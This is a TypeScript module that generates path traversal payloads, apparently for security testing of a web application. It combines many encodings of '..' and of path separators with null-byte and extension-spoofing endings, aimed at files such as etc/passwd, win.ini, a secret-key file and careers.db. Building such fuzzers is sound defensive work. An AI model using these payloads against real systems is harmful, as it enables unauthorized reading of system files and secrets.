/** Path traversal payloads: every encoding of "one folder up" before sensitive targets. */

const ups = [
  '..',
  '...',
  '....',
  '.',
  '. .',
  '..;',
  '.%00.',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '%e0%80%ae%e0%80%ae',
  '%u002e%u002e',
  '\u2024\u2024',
  '\uFF0E\uFF0E',
];
const separators = ['/', '\\', '//', '\\/', '%2f', '%5c', '%252f', '%255c', '%c0%af', '%c1%9c', '\u2215', '\uFF0F', ';/'];
const targets = ['etc/passwd', 'careers.db', 'secret-key', 'windows\\win.ini'];
const roots = ['', '/', 'file:///'];
const endings = ['', '%00', '\0', '%00.pdf', '.pdf', '.txt', '/.', '?', '#', '.pdf\0.exe', '.docx'];

const endingsOfEach = 4;

/** Each kind of "up" with each separator, so many folders up; roots, targets and endings in turn. */
export function buildPathTraversals(foldersUp: number): string[] {
  const paths = new Set<string>();
  let turn = 0;
  const next = (list: string[]) => list[turn % list.length] ?? '';
  for (const up of ups) {
    for (const separator of separators) {
      for (const end = turn + endingsOfEach; turn < end; turn++) {
        paths.add(next(roots) + `${up}${separator}`.repeat(foldersUp) + next(targets) + next(endings));
      }
    }
  }
  return [...paths];
}
